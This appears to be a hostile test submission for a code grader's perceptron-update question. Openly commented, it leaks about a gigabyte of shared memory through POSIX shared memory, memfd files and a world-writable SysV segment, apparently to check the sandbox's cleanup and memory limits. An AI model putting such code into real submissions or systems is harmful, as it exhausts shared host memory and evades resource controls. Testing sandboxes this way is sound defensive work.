# question: 01-perceptron-update/update
# score: 2
# Leaves memory behind that outlives its process, or that no limit counts.
import ctypes
import os
from multiprocessing import shared_memory

kept = []
try:
    for number in range(100):
        kept.append(shared_memory.SharedMemory(f"left-{number}", create=True, size=10_000_000))
except (OSError, ImportError):
    pass
try:
    for _ in range(100):
        descriptor = os.memfd_create("left")
        os.write(descriptor, bytes(10_000_000))
except OSError:
    pass
ctypes.CDLL(None).shmget(1234, 10_000_000, 0o1666)


def update(w, b, x, y, eta):
    step = eta * (y - (np.dot(w, x) + b >= 0))
    return w + step * x, b + step
